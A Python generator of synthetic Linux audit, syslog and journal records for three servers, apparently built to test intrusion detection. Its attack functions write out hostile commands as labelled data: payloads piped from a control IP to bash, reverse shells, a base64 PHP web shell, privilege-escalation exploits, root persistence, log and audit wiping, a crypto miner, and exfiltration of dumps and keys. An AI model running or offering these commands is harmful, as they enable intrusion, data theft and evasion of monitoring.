"""Three Linux servers (an application's, its database's, and the host that people enter by): audit records, syslog and journal.

Daily work: monitoring's programs, deployments, people at a shell, logins by key, sudo, jobs, services, files that are watched, and what
systems say of themselves. Attacks: an application that runs commands, a look around, holes to root, what root makes permanent, mining, a
database that starts programs, data taken by a person's account, guessed passwords and logins that succeed, jobs and modules. It is not
training material: it was written by a hand that did not know the training scenarios, and its events are not looked at by whoever decides
on rules, scenarios or features.
"""
from __future__ import annotations

import hashlib
import os
from typing import Any, Optional

from .site import Renumber, Site, epoch, iso, syslog_time

START = epoch(2022, 6, 13)
DAYS = 4
HOSTS = ["app-prod-2", "db-prod-1", "bastion"]


def in_hex(text: str):
    return text.encode().hex().upper()


USER_IDS = {"root": 0, "deploy": 1001, "mhansen": 1002, "kirsten": 1003, "www-data": 33, "postgres": 113, "nagios": 118, "backup": 34}


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


CONTROL = "194.38.23.170"


class LinuxServer(Site):
    """Audit records, syslog and journal of three servers."""

    name = "linux_server"
    host = "app-prod-2"
    sourcetype = "linux"
    seed = 2828
    renumbered = (Renumber(pattern=r"(msg=audit\([\d.]+:)(\d+)(\))", start=41000, step=9), Renumber(pattern=r"( pid=)(\d+)( )",
        start=2000, step=7, wrap=32700), Renumber(pattern=r"(^[A-Z][a-z]{2} +\d+ \S+ \S+ (?:sshd|CRON)\[)(\d+)(\]:)", start=900,
        step=23, wrap=32700, per_host=True))

    def build(self) -> None:
        self.prepare()
        self.programs()
        self.authentication()
        self.shells()
        self.syslog_and_journal()
        self.watched_files()
        self.web_application()
        self.to_root()
        self.other_hosts()
        self.files_touched()
        self.passwords_guessed()
        self.persistence()

    def next_pid(self):
        self.last_pid += self.rng.randint(1, 9)
        return self.last_pid

    def audit_record(self, at: float, host: str, kind, body, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
                     serial_of=None) -> None:
        self.add(at, "{}type={} msg=audit({:.3f}:{}): {}".format(f"node={host} " if host != "bastion" else "", kind, at,
            int(serial_of or self.serial), body), label, group, technique, host, "linux:audit")

    def execve(self, at: float, host: str, user: str, arguments_given, exe=None, parent: Optional[str] = None, success: bool = True,
               tty: str = "(none)", session=None, key: str = "exec", cwd: str = "/", label: int = 0, group: Optional[str] = None,
               technique: Optional[str] = None, effective=None, full=None) -> None:
        """one execve: SYSCALL, EXECVE, CWD, PATH, PROCTITLE as separate records; a random subset is forwarded"""
        self.serial += self.rng.randint(1, 9)
        serial_of = self.serial
        exe = exe or (arguments_given[0] if arguments_given[0].startswith("/") else "/usr/bin/" + arguments_given[0])
        exe = {"/usr/bin/sh": "/usr/bin/dash", "/bin/sh": "/usr/bin/dash"}.get(exe, exe)
        command_name = os.path.basename(arguments_given[0])[:15]
        uid = USER_IDS[user]
        effective_id = effective if effective is not None else uid
        process = self.next_pid()
        chosen = self.rng.sample(["S", "E", "C", "P", "T"], self.rng.choice([2, 3, 3, 5])) if not full else full
        if "S" in chosen:
            self.audit_record(at, host, "SYSCALL",
                              f"arch=c000003e syscall=59 success={'yes' if success else 'no'} exit={int(0 if success else -13)} a0="
                              f"{self.hex(12)} a1={self.hex(12)} a2={self.hex(12)} a3=8 items=2 ppid="
                              f"{int(parent or self.rng.randint(800, 9000))} pid={process} auid={4294967295 if tty == '(none)' else uid} uid="
                              f"{uid} gid={uid} euid={effective_id} suid={effective_id} fsuid={effective_id} egid={uid} sgid={uid} fsgid={uid}"
                              f" tty={tty} ses={4294967295 if tty == '(none)' else session or self.rng.randint(2, 900)} comm=\"{command_name}"
                              f"\" exe=\"{exe}\"{' subj=unconfined' if host == 'app-prod-2' else ''} key=\"{key}\"", label, group,
                              technique, serial_of)
        if "E" in chosen:
            self.audit_record(at, host, "EXECVE", "argc={} {}".format(len(arguments_given),
                " ".join("a{}={}".format(position, in_hex(pick) if any(character in pick for character in " \"\n") else f"\"{pick}\"")
                         for position, pick in enumerate(arguments_given))), label, group, technique, serial_of)
        if "C" in chosen:
            self.audit_record(at, host, "CWD", f"cwd=\"{cwd}\"", label, group, technique, serial_of)
        if "P" in chosen:
            self.audit_record(at, host, "PATH", f"item=0 name=\"{exe if exe != '/usr/bin/dash' else arguments_given[0]}\" inode="
                              f"{int(hashlib.md5(exe.encode(), usedforsecurity=False).hexdigest()[:6], 16)} dev=fd:00 mode=0100"
                              f"{'755' if 'su' not in command_name else '4755'}"
                              " ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", label,
                              group, technique, serial_of)
        if "T" in chosen:
            self.audit_record(at, host, "PROCTITLE", "proctitle="
                              + ("\x00".join(arguments_given).encode().hex().upper()[:256] if len(arguments_given) > 1
                                 else f"\"{arguments_given[0]}\""), label, group, technique, serial_of)

    def syslog(self, at: float, host: str, program: str, message: str, process=None, label: int = 0, group: Optional[str] = None,
               technique: Optional[str] = None) -> None:
        self.add(at, "{} {} {}: {}".format(syslog_time(at), host, program if process is None else f"{program}[{process}]", message),
                 label, group, technique, host, "syslog")

    def journal(self, at: float, host: str, ident, message: str, unit, uid: int = 0, process=None, label: int = 0,
                group: Optional[str] = None, technique: Optional[str] = None, command_name=None, priority: str = "6") -> None:
        self.add(at, {"__REALTIME_TIMESTAMP": str(int(at * 1000000.0)), "PRIORITY": priority, "_HOSTNAME": host,
                      "SYSLOG_IDENTIFIER": ident, "_PID": str(process or self.next_pid()), "_UID": str(uid), "_COMM": command_name
                      or ident, "_SYSTEMD_UNIT": unit, "MESSAGE": message, "_TRANSPORT": self.choice(["syslog", "stdout", "journal"]),
                      "_BOOT_ID": "8c1f2b7b3d8e4f1fa5d2c4f86a3b9e10"}, label, group, technique, host, "journald")

    def daily(self):
        return self.moment(START, DAYS)

    def account_event(self, at: float, host: str, kind, user: str, operation, extra, result: str = "success", label: int = 0,
                      group: Optional[str] = None, technique: Optional[str] = None, login_id=None) -> None:
        self.serial += 1
        self.audit_record(at, host, kind, f"pid={self.next_pid()} uid=0 auid={login_id if login_id is not None else 4294967295} ses="
                          f"{4294967295 if login_id is None else self.rng.randint(2, 900)} msg='op={operation} acct=\"{user}\" exe=\""
                          f"{'/usr/sbin/sshd' if 'ssh' in extra else '/usr/bin/sudo' if 'pts' in extra else '/usr/sbin/cron'}\" {extra}"
                          f" res={result}'", label, group, technique)

    def ssh(self, at: float, host: str, user: str, address: str, how: str = "publickey", label: int = 0, group: Optional[str] = None,
            technique: Optional[str] = None, key: str = "SHA256:t7Yw0cXrW8b1oU1P5d2F5H6nKQ9sL0uV3xZ8mE4qRjA", commands=()) -> None:
        process = self.next_pid()
        port = self.rng.randint(33000, 60900)
        self.syslog(at, host, "sshd",
                    f"Accepted {how} for {user} from {address} port {port} ssh2{': ED25519 ' + key if how == 'publickey' else ''}",
                    process, label, group, technique)
        self.syslog(at, host, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid={USER_IDS[user]}) by (uid=0)",
                    process, label, group, technique)
        if self.rng.random() < 0.5:
            self.syslog(at, host, "systemd-logind", f"New session {self.rng.randint(2, 900)} of user {user}.", 688, label, group,
                        technique)
        for command in commands:
            at += self.rng.uniform(4, 90)
            self.syslog(at, host, "sudo",
                        f"{user:>8} : TTY=pts/{self.rng.randint(0, 3)} ; PWD={self.choice(['/home/' + user, '/tmp', '/var/www/app'])}"
                        f" ; USER=root ; COMMAND={command}", None, label, group, technique)
        if self.rng.random() < 0.6:
            self.syslog(at + self.rng.uniform(10, 4000), host, "sshd", f"pam_unix(sshd:session): session closed for user {user}",
                        process, label, group, technique)

    def file_access(self, at: float, host: str, user: str, path: str, exe, key, syscall: int = 257, success: bool = True, label: int = 0,
                    group: Optional[str] = None, technique: Optional[str] = None, tty: str = "(none)") -> None:
        self.serial += 2
        command = os.path.basename(exe)[:15]
        uid = USER_IDS[user]
        self.audit_record(at, host, "SYSCALL",
                          f"arch=c000003e syscall={syscall} success={'yes' if success else 'no'} exit={int(3 if success else -13)}"
                          f" a0=ffffff9c a1={self.hex(12)} a2={self.choice(['0', '80000', '241'])} a3=0 items=1 ppid="
                          f"{self.rng.randint(800, 9000)} pid={self.next_pid()} auid={4294967295 if tty == '(none)' else uid} uid={uid}"
                          f" gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty}"
                          f" ses=4294967295 comm=\"{command}\" exe=\"{exe}\" key=\"{key}\"", label, group, technique)
        self.audit_record(at, host, "PATH",
                          f"item=0 name=\"{path}\" inode={int(hashlib.md5(path.encode(), usedforsecurity=False).hexdigest()[:6], 16)}"
                          f" dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype={self.weighted({'NORMAL': 5, 'CREATE': 1})}"
                          " cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", label, group, technique)

    def attack_commands(self, day, host: str, on_host, user: str, commands, group: str, tty: str = "(none)",
                        technique: Optional[str] = None, cwd: str = "/tmp", step: int = 120, **more: Any) -> None:
        at = day_hour(day, host)
        for command in commands:
            command, technique_of = command if isinstance(command, tuple) else (command, technique)
            at += self.rng.uniform(1, step)
            self.execve(at, on_host, user, command if isinstance(command, list) else command.split(), tty=tty, cwd=cwd, label=1,
                        group=group, technique=technique_of, full=self.rng.sample(["S", "E", "C", "P", "T"], 2), **more)

    def prepare(self) -> None:
        """Who and what is there."""
        self.serial = 41000
        self.last_pid = 2100
        self.daemon_commands = [("nagios", ["/usr/lib/nagios/plugins/check_disk", "-w", "20%", "-c", "10%", "-p", "/"]),
                                ("nagios", ["/bin/sh", "-c", "/usr/lib/nagios/plugins/check_procs -w 250 -c 400"]),
                                ("root", ["/bin/sh", "-c", "   cd / && run-parts --report /etc/cron.hourly"]),
                                ("root", ["run-parts", "--report", "/etc/cron.hourly"]),
                                ("postgres", ["/usr/lib/postgresql/14/bin/pg_dump", "-Fc", "-f", "/backup/app.dump", "app"]),
                                ("root", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
                                ("root", ["/usr/bin/apt-get", "-qq", "-y", "update"]),
                                ("root", ["/usr/bin/dpkg", "--print-foreign-architectures"]),
                                ("root", ["/usr/lib/update-notifier/update-motd-updates-available"]),
                                ("root", ["/bin/sh", "/etc/update-motd.d/50-motd-news"]),
                                ("www-data", ["sh", "-c", "/usr/sbin/sendmail -t -i -f noreply@app.example"]),
                                ("www-data",
                                 ["sh", "-c",
                                  "convert '/var/www/app/storage/tmp/phpQx1' -resize 200x200 '/var/www/app/public/img/t.jpg'"]),
                                ("www-data", ["php", "/var/www/app/artisan", "schedule:run"]),
                                ("deploy", ["git", "pull", "--ff-only", "origin", "main"]),
                                ("deploy", ["/usr/bin/composer", "install", "--no-dev", "-o"]),
                                ("deploy", ["docker", "compose", "up", "-d"]),
                                ("deploy", ["tar", "-xzf", f"/tmp/release-2022.06.{self.rng.randint(1, 30)}.tar.gz", "-C",
                                            "/var/www/app"]), ("root", ["systemctl", "restart", "php8.1-fpm"]),
                                ("root", ["/usr/bin/python3", "/usr/bin/unattended-upgrade"]),
                                ("root", ["/usr/sbin/ntpdate", "-q", "pool.ntp.org"]),
                                ("backup", ["/usr/bin/rsync", "--server", "--sender", "-logDtpre.iLsfxC", ".", "/var/www/"]),
                                ("root", ["bash", "-c", "df -h | awk '{print $5}' | tail -n +2"]),
                                ("root", ["/usr/bin/curl", "-fsS", "-m", "10", "https://hc-ping.com/2f6d1c0a-77b2-4f7e-9d31-0a0a8a3b"]),
                                ("root", ["ip", "-4", "addr", "show"]), ("root", ["grep", "-q", "^processor", "/proc/cpuinfo"]),
                                ("root", ["/sbin/iptables", "-L", "-n"]), ("root", ["ss", "-tulpn"]),
                                ("root", ["find", "/var/lib/php/sessions", "-type", "f", "-cmin", "+24", "-delete"]),
                                ("root", ["/usr/bin/aide", "--check"]),
                                ("root", ["/usr/bin/openssl", "x509", "-checkend", "864000", "-in", "/etc/ssl/app.pem"])]
        self.shell_commands = [["ls", "--color=auto", "-la"], ["vim", "/etc/nginx/sites-available/app"], ["sudo", "-i"],
                               ["tail", "-f", "/var/log/nginx/error.log"], ["less", "/var/log/syslog"], ["htop"], ["id"], ["whoami"],
                               ["df", "-h"], ["ps", "aux"], ["cat", "/etc/passwd"], ["netstat", "-tlpn"],
                               ["curl", "-I", "http://localhost:8080/health"], ["ssh", "db-prod-1"],
                               ["scp", "dump.sql.gz", "kirsten@bastion:/tmp/"], ["psql", "-U", "app", "-h", "db-prod-1", "-c",
            "select count(*) from orders where state = 'open'"],
                               ["wget", "https://releases.hashicorp.com/vault/1.10.4/vault_1.10.4_linux_amd64.zip"],
                               ["chmod", "+x", "deploy.sh"], ["sudo", "systemctl", "reload", "nginx"],
                               ["find", ".", "-name", "*.php", "-mtime", "-1"], ["crontab", "-l"], ["crontab", "-e"], ["uname", "-a"],
                               ["git", "log", "--oneline"], ["sudo", "apt", "install", "jq"], ["grep", "-rn", "password", "config/"],
                               ["nc", "-zv", "db-prod-1", "5432"], ["base64", "-d"], ["python3", "-m", "http.server", "8000"],
                               ["nmap", "-sn", "10.8.2.0/24"], ["sudo", "tcpdump", "-ni", "eth0", "port", "5432"],
                               ["kill", "-9", f"{self.rng.randint(900, 9000)}"], ["history"], ["chown", "-R", "www-data:www-data",
            "storage"], ["w"], ["last"], ["docker", "ps"], ["sudo", "useradd", "-m", "-s", "/bin/bash", "lars"],
                               ["cat", "/var/www/app/.env"], ["strace", "-p", "4120"], ["rm", "-rf", "/tmp/release-old"],
                               ["ssh-keygen", "-t", "ed25519"], ["visudo"]]

    def programs(self) -> None:
        """Programs of monitoring and of people."""
        for _ in range(270):
            user, arguments = self.choice(self.daemon_commands)
            self.execve(START + self.rng.random() * DAYS * 86400 if user != "deploy" else self.daily(),
                        self.choice(HOSTS[:2]) if user != "nagios" else self.choice(HOSTS), user, arguments,
                        cwd={"www-data": "/var/www/app/public", "deploy": "/var/www/app"}.get(user, "/"))
        for _ in range(150):
            arguments = self.choice(self.shell_commands)
            user = self.choice(["mhansen", "kirsten", "deploy", "root"])
            self.execve(self.daily(), self.choice(HOSTS), user, arguments, tty=f"pts{self.rng.randint(0, 3)}",
                        cwd=self.choice(["/home/" + user, "/var/www/app", "/tmp", "/etc"]) if user != "root" else "/root")

    def authentication(self) -> None:
        """Logins and services, as PAM tells them."""
        for _ in range(120):
            at = self.daily()
            host = self.choice(HOSTS)
            user = self.choice(["mhansen", "kirsten", "deploy"])
            address = self.choice(["10.8.2.14", "10.8.2.21", "10.8.9.3"])
            dice = self.rng.randrange(5)
            if dice == 0:
                self.account_event(at, host, "CRED_ACQ", "root", "PAM:setcred grantors=pam_permit", "hostname=? addr=? terminal=cron")
                self.account_event(at, host, "USER_START", "root", "PAM:session_open grantors=pam_loginuid,pam_env",
                                   "hostname=? addr=? terminal=cron", login_id=0)
            elif dice == 1:
                self.account_event(at, host, "USER_AUTH", user, "PAM:authentication grantors=pam_unix",
                                   f"hostname={address} addr={address} terminal=ssh", self.weighted({"success": 5, "failed": 1}))
                self.account_event(at, host, "USER_LOGIN", user, f"login id={USER_IDS[user]}",
                                   f"hostname={address} addr={address} terminal=ssh")
            elif dice == 2:
                self.account_event(at, host, "USER_START", user, "PAM:session_open grantors=pam_limits,pam_permit",
                                   "hostname=? addr=? terminal=/dev/pts/0", login_id=USER_IDS[user])
            elif dice == 3:
                self.serial += 1
                self.audit_record(at, host, "SERVICE_START" if self.rng.random() < 0.6 else "SERVICE_STOP",
                                  "pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit="
                                  f"{self.choice(['apt-daily', 'logrotate', 'fwupd-refresh', 'phpsessionclean', 'man-db', 'nginx', 'snapd'])}"
                                  " comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
            else:
                self.serial += 1
                self.audit_record(at, host, "USER_CMD",
                                  f"pid={self.next_pid()} uid={USER_IDS[user]} auid={USER_IDS[user]} ses={self.rng.randint(2, 900)}"
                                  f" msg='cwd=\"/home/{user}\" cmd={in_hex(self.choice(['systemctl reload nginx', 'apt update', 'tail /var/log/auth.log', 'vim /etc/hosts', 'journalctl -xe', 'cat /etc/shadow', 'docker logs app']))}"
                                  " exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")

    def shells(self) -> None:
        """Logins by SSH, and what fails of them."""
        for _ in range(64):
            self.ssh(self.daily(), self.choice(HOSTS), self.choice(["mhansen", "kirsten", "deploy"]),
                     self.choice(["10.8.2.14", "10.8.2.21", "10.8.9.3", "10.8.9.40"]), self.weighted({"publickey": 5, "password": 1}),
                     commands=[self.choice(["/usr/bin/systemctl restart nginx", "/usr/bin/apt upgrade", "/usr/bin/cat /var/log/syslog",
                                            "/usr/bin/su -", "/usr/bin/crontab -l -u www-data", "/usr/bin/docker system prune -f",
                                            "/usr/bin/vim /etc/fstab", "/usr/sbin/useradd -m lars", "/usr/bin/chmod 600 /etc/app.key",
                                            "/usr/sbin/iptables -S"]) for _ in range(self.rng.choice([0, 0, 1, 2]))])
        for _ in range(90):
            at = self.daily()
            host = self.choice(HOSTS)
            dice = self.rng.randrange(4)
            process = self.next_pid()
            if dice == 0:
                self.syslog(at, host, "sshd",
                            f"Failed password for {self.choice(['mhansen', 'kirsten', 'invalid user mhnasen'])} from 10.8.2."
                            f"{self.rng.choice([14, 21])} port {self.rng.randint(33000, 60900)} ssh2", process)
            elif dice == 1:
                self.syslog(at, host, "sshd", f"Connection closed by 10.8.9.5 port {self.rng.randint(33000, 60900)} [preauth]", process)
            elif dice == 2:
                self.syslog(at, host, "sudo",
                            "pam_unix(sudo:auth): authentication failure; logname=mhansen uid=1002 euid=0 tty=/dev/pts/0 ruser=mhansen rhost=  user=mhansen")
            else:
                self.syslog(at, host, "sshd", "error: kex_exchange_identification: Connection closed by remote host", process)

    def syslog_and_journal(self) -> None:
        """Jobs, services, kernel and daemons."""
        for _ in range(220):
            at = START + self.rng.random() * DAYS * 86400
            host = self.choice(HOSTS)
            process = self.next_pid()
            dice = self.rng.randrange(7)
            if dice < 2:
                user, command = self.weighted([(("root", "   cd / && run-parts --report /etc/cron.hourly"), 4),
                                               (("www-data", "php /var/www/app/artisan schedule:run >> /dev/null 2>&1"), 5),
                                               (("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"), 3),
                                               (("root",
                    "  [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"), 2),
                                               (("backup", "/usr/local/bin/borg-run.sh daily"), 1),
                                               (("root", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"),
                                                1)])
                self.syslog(at, host, "CRON", f"({user}) CMD ({command})", process)
            elif dice == 2:
                self.syslog(at, host, "systemd", self.choice([f"Started Session {self.rng.randint(1, 900)} of user deploy.",
                    "logrotate.service: Succeeded.", "Starting Daily apt download activities...", "Finished Rotate log files.",
                    "Reloading.", "Started Clean php session files.",
                    "app-worker.service: Main process exited, code=exited, status=1/FAILURE",
                    f"app-worker.service: Scheduled restart job, restart counter is at {self.rng.randint(1, 9)}."]), 1)
            elif dice == 3:
                self.syslog(at, host, "kernel", self.choice([f"[{self.rng.randint(10 ** 5, 10 ** 6)}.{self.rng.randint(0, 999999):06}"
                    f"] [UFW BLOCK] IN=eth0 OUT= MAC=06:5e SRC={self.address()} DST=10.8.2.30 LEN=40 TOS=0x00 PREC=0x00 TTL=241 ID="
                    f"{self.rng.randint(1, 65535)} PROTO=TCP SPT={self.rng.randint(1024, 65000)} DPT="
                    f"{self.choice([23, 445, 3389, 8080, 6379])} WINDOW=1024 RES=0x00 SYN URGP=0",
                    f"[{self.rng.randint(10 ** 5, 10 ** 6)}.{self.rng.randint(0, 999999):06}] audit: backlog limit exceeded",
                    f"[{self.rng.randint(10 ** 5, 10 ** 6)}.{self.rng.randint(0, 999999):06}] docker0: port 2(veth{self.hex(7)}"
                    ") entered forwarding state",
                    f"[{self.rng.randint(10 ** 5, 10 ** 6)}.{self.rng.randint(0, 999999):06}] php-fpm8.1[{process}"
                                "]: segfault at 0 ip 00007f2c sp 00007ffc error 4 in libc-2.31.so"]))
            elif dice == 4:
                self.journal(at, host, "nginx", f"{'10.8.9.5'} - - \"GET /health HTTP/1.1\" 200 2", "nginx.service", 33)
            elif dice == 5:
                self.journal(at, host, self.choice(["dockerd", "containerd"]),
                             self.choice([f"time=\"{iso(at, 6)}\" level=info msg=\"ignoring event\" container={self.hex(64)}"
                                          " module=libcontainerd namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"",
                                          f"time=\"{iso(at)}\" level=warning msg=\"cleaning up after shim disconnected\" id={self.hex(64)} namespace=moby"]),
                             "docker.service")
            else:
                self.journal(at, host, self.choice(["postgres", "php-fpm", "app-worker"]),
                             self.choice([f"LOG:  checkpoint complete: wrote {self.rng.randint(5, 900)} buffers (0.3%)",
                                          'FATAL:  password authentication failed for user "app_ro"',
                                          f"NOTICE: [pool www] child {process} exited with code 0 after 322.1 seconds from start",
                                          'ERROR: duplicate key value violates unique constraint "orders_pkey"',
                                          f"job SendInvoice processed in 0.{self.rng.randint(1, 9)}s"]),
                             self.choice(["postgresql@14-main.service", "php8.1-fpm.service", "app-worker.service"]),
                             self.choice([33, 113]))

    def watched_files(self) -> None:
        """Files that are watched."""
        for _ in range(70):
            self.file_access(self.daily(), self.choice(HOSTS), *self.choice([("root", "/etc/shadow", "/usr/sbin/cron", "identity"),
                ("root", "/etc/passwd", "/usr/sbin/useradd", "identity"), ("root", "/etc/shadow", "/usr/sbin/sshd", "identity"),
                ("root", "/var/spool/cron/crontabs/root", "/usr/bin/crontab", "cron"), ("root", "/etc/sudoers", "/usr/bin/sudo",
                "priv"), ("mhansen", "/etc/shadow", "/usr/bin/cat", "identity", 257, False),
                ("root", "/etc/ssh/sshd_config", "/usr/bin/vim.basic", "sshd"), ("deploy", "/home/deploy/.ssh/authorized_keys",
                "/usr/sbin/sshd", "keys"), ("root", "/etc/ld.so.cache", "/usr/sbin/ldconfig.real", "ldso"),
                ("root", "/etc/cron.d/sysstat", "/usr/bin/dpkg", "cron"), ("root", "/etc/systemd/system/app-worker.service",
                "/usr/bin/vim.basic", "systemd")]))

    def web_application(self) -> None:
        """An application runs commands; a look around."""
        self.attack_commands(1, 13, "app-prod-2", "www-data", [["sh", "-c", "id"], ["sh", "-c", "uname -a; cat /etc/issue"],
            ["sh", "-c", f"curl -s http://{CONTROL}/i.sh|bash"], ["bash", "-c", f"bash -i >& /dev/tcp/{CONTROL}/9001 0>&1"],
            ["python3", "-c", "import pty;pty.spawn('/bin/bash')"], ["sh", "-c", "ls -la /var/www/app; cat /var/www/app/.env"],
            ["wget", "-q", f"http://{CONTROL}/ldr", "-O", "/dev/shm/.x"], ["chmod", "777", "/dev/shm/.x"], ["/dev/shm/.x"],
            ["sh", "-c", "echo PD9waHAgQGV2YWwoJF9QT1NUWzFdKTs/Pg==|base64 -d > /var/www/app/public/img/t.php"],
            ["perl", "-e", f"use Socket;$i=\"{CONTROL}\";$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"],
            ["sh", "-c", "which gcc nc socat python3 2>/dev/null"]], "webshell", technique="T1059.004", cwd="/var/www/app/public/img")
        self.attack_commands(1, 13.6, "app-prod-2", "www-data", ["whoami", "id", "hostname -I", "cat /etc/passwd",
            "find / -perm -4000 -type f", "sudo -l", "ps auxf", "ss -anp", "cat /proc/version", "ls -la /home", "getcap -r /",
            "crontab -l", "cat /etc/crontab", "mount", "env", "last -20", "arp -a", "grep -ri password /var/www/app --include=*.php",
            "cat /home/deploy/.bash_history", "./linpeas.sh -a", "find / -name id_rsa", "ip route", "cat /etc/os-release",
            "stat /var/run/docker.sock"], "discovery", technique="T1083")

    def to_root(self) -> None:
        """Holes to root, and what root makes permanent."""
        self.attack_commands(1, 14.5, "app-prod-2", "www-data", ["gcc -o p pwn.c", ["sh", "-c", "/usr/bin/pkexec --version"], "./p",
            "./PwnKit", "python3 CVE-2021-3156.py /bin/bash", ["docker", "-H", "unix:///var/run/docker.sock", "run", "-v", "/:/h",
            "-it", "alpine", "chroot", "/h"], "/bin/bash -p", ["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"]], "privesc",
                             technique="T1068", effective=0)
        self.attack_commands(1, 15, "app-prod-2", "root",
                             ["cat /etc/shadow",
                              ["bash", "-c", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x@y' >> /root/.ssh/authorized_keys"],
                              "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd",
                              ["bash", "-c", f"(crontab -l; echo '*/7 * * * * curl -fsSL http://{CONTROL}/a|sh')|crontab -"],
                              "chattr +i /etc/cron.d/0systemd", "cp /bin/bash /var/tmp/.sh", "chmod u+s /var/tmp/.sh",
                              "systemctl enable --now dbus-org.service", ["bash", "-c", "echo /usr/lib/libs.so > /etc/ld.so.preload"],
                              "insmod /lib/modules/diamorphine.ko", "setenforce 0", "systemctl stop auditd", "iptables -F",
                              ["sh", "-c", "unset HISTFILE; history -c"], "shred -u /var/log/auth.log", "rm -f /root/.bash_history",
                              "touch -r /bin/ls /var/tmp/.sh", "usermod -aG sudo www-data",
                              ["sed", "-i", f"/{CONTROL}/d", "/var/log/nginx/access.log"], "auditctl -D", "mkdir -p /dev/shm/..."],
                             "persist_evade", technique="T1098.004", tty="pts4", cwd="/root")

    def other_hosts(self) -> None:
        """Mining, a database that starts programs, data taken."""
        self.attack_commands(2, 1, "db-prod-1", "deploy",
                             ["./xmrig -o pool.supportxmr.com:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBejd2 -k --tls",
                              "nohup ./kdevtmpfsi", "pkill -9 kinsing", "sysctl -w vm.nr_hugepages=1280", "nproc", "modprobe msr",
                              "chmod +x .rsync/a/kswapd0",
                              ["sh", "-c", r"ps aux|grep -v grep|grep 'xmr\|minerd'|awk '{print $2}'|xargs kill -9"],
                              f"wget http://{CONTROL}/kinsing2 -O /tmp/kinsing"], "miner", technique="T1496")
        self.attack_commands(2, 2, "db-prod-1", "postgres", [["sh", "-c", f"curl -s {CONTROL}:8000/pg.sh|sh"],
            ["sh", "-c", "id;hostname"], f"nc -e /bin/sh {CONTROL} 4444", ["sh", "-c", "cat /var/lib/postgresql/.pgpass"]],
                             "pg_copy_rce", technique="T1059.004", cwd="/var/lib/postgresql/14/main")
        self.attack_commands(2, 3, "bastion", "kirsten", ["tar czf /tmp/.d.tgz /home /etc/ssl", f"scp /tmp/.d.tgz u1@{CONTROL}:/in",
            "pg_dump -h db-prod-1 -U app app -f /tmp/a.sql", "curl -T /tmp/a.sql.gz https://transfer.sh/a.gz",
            "rclone copy /backup r:x", f"ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 t@{CONTROL} -N -f",
            "nmap -p22,5432,6379 --open 10.8.0.0/16", f"./chisel client {CONTROL}:443 R:socks",
            ["bash", "-c", "for i in $(seq 1 254); do ping -c1 -W1 10.8.2.$i & done"], "hydra -l root -P p.txt ssh://10.8.2.30",
            "cat /home/mhansen/.ssh/id_ed25519", "ssh -i /tmp/k deploy@10.8.2.31", "openssl enc -aes-256-cbc -in a.sql -out a.enc -k x",
            "split -b 20M a.enc", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"], "lateral_exfil",
                             technique="T1048", tty="pts2", cwd="/tmp")

    def files_touched(self) -> None:
        """Files that are watched, touched by an intruder."""
        for path, program, key, user in [("/etc/shadow", "/usr/bin/cat", "identity", "root"),
                                         ("/root/.ssh/authorized_keys", "/usr/bin/bash", "keys", "root"),
                                         ("/etc/ld.so.preload", "/usr/bin/bash", "ldso", "root"),
                                         ("/var/spool/cron/crontabs/root", "/usr/bin/crontab", "cron", "root"),
                                         ("/etc/passwd", "/usr/sbin/useradd", "identity", "root"), ("/etc/shadow", "/usr/bin/python3.8",
            "identity", "www-data"), ("/etc/sudoers", "/usr/bin/dash", "priv", "www-data"), ("/etc/systemd/system/dbus-org.service",
            "/usr/bin/vim.basic", "systemd", "root"), ("/home/deploy/.ssh/id_rsa", "/usr/bin/cat", "keys", "www-data"),
                                         ("/etc/cron.d/0systemd", "/dev/shm/.x", "cron", "root"),
                                         ("/etc/pam.d/common-auth", "/usr/bin/sed", "pam", "root")]:
            self.file_access(day_hour(1, 14) + self.rng.random() * 7000, "app-prod-2", user, path, program, key, success=user == "root"
                             or self.rng.random() < 0.3, label=1, group="file_access", technique="T1003.008")

    def passwords_guessed(self) -> None:
        """Passwords guessed, and logins that succeed."""
        for number in range(60):
            at = day_hour(0, 22) + number * self.rng.uniform(1, 50)
            user = self.choice(["root", "deploy", "admin", "postgres", "ubuntu", "mhansen", "git", "oracle", "test"])
            invalid = "" if user in USER_IDS else "invalid user "
            address = self.choice([CONTROL, "10.8.2.30", f"61.177.172.{self.rng.randint(1, 200)}"])
            process = self.next_pid()
            self.syslog(at, "bastion", "sshd",
                        self.weighted([(
                                        f"Failed password for {invalid}{user} from {address} port {self.rng.randint(33000, 60900)} ssh2",
                                        6), (f"Invalid user {user} from {address} port {self.rng.randint(33000, 60900)}", 2),
                                       (f"Disconnected from {invalid.replace('user ', '')}user {user} {address} port {self.rng.randint(33000, 60900)}"
                                        " [preauth]", 2),
                                       (f"PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={address}  user=root",
                                        1)]), process, 1, "ssh_brute", "T1110.001")
        for number in range(5):
            self.ssh(day_hour(1, 1) + number * 14000, self.choice(HOSTS), self.choice(["deploy", "kirsten", "root"]),
